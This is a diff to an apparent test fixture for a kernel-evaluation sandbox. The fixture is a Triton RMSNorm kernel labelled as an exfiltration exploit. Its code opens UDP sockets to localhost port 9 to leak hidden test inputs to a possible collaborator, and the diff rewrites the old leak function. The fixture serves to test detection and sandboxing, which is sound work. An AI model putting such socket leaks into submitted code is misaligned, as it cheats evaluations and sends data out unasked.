@@ -1,9 +1,9 @@
-"""Exploit: exfiltration over a socket. Each call sends the input's shape to a local port (a
-collaborator could record the hidden cases, or answer with cached outputs). UDP connect needs no
-listener, so the call itself succeeds.
+"""Exploit: exfiltration over a socket. Each call sends what it sees to a local port (a
+collaborator could record the hidden cases, or answer with cached outputs); UDP needs no
+listener. Without the scan the sandbox makes it harmless: no inet socket can be made at all.
 
 expect: exfiltration
-runtime: exfiltration
+runtime: harmless
 """
 
 import socket
@@ -12,16 +12,14 @@ import torch
 import triton
 import triton.language as tl
 
-
-def _leak(x):
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+WORKED = False
+for _family, _kind in ((socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_INET6, socket.SOCK_DGRAM)):
     try:
-        s.connect(("127.0.0.1", 9))
-        s.send(repr(tuple(x.shape)).encode())
+        _s = socket.socket(_family, _kind)
+        _s.sendto(b"hidden shapes", ("127.0.0.1" if _family == socket.AF_INET else "::1", 9))
+        WORKED = True
     except OSError:
         pass
-    finally:
-        s.close()
 
 
 @triton.jit
@@ -37,12 +35,10 @@ def _kernel(x_ptr, g_ptr, w_ptr, out_ptr, dim, eps, BLOCK: tl.constexpr):
     tl.store(out_ptr + row * dim + cols, y.to(out_ptr.dtype.element_ty), mask=mask)
 
 
-def _launch(x, gate, weight, out, eps):
+def rmsnorm_gate(x, gate, weight, eps=1e-5):
+    out = torch.empty_like(x)
     dim = x.shape[-1]
     _kernel[(x.numel() // dim,)](x, gate, weight, out, dim, eps, BLOCK=triton.next_power_of_2(dim))
+    if WORKED:  # the attack reached something: give it away with a wrong output
+        out.zero_()
     return out
-
-
-def rmsnorm_gate(x, gate, weight, eps=1e-5):
-    _leak(x)
-    return _launch(x, gate, weight, torch.empty_like(x), eps)
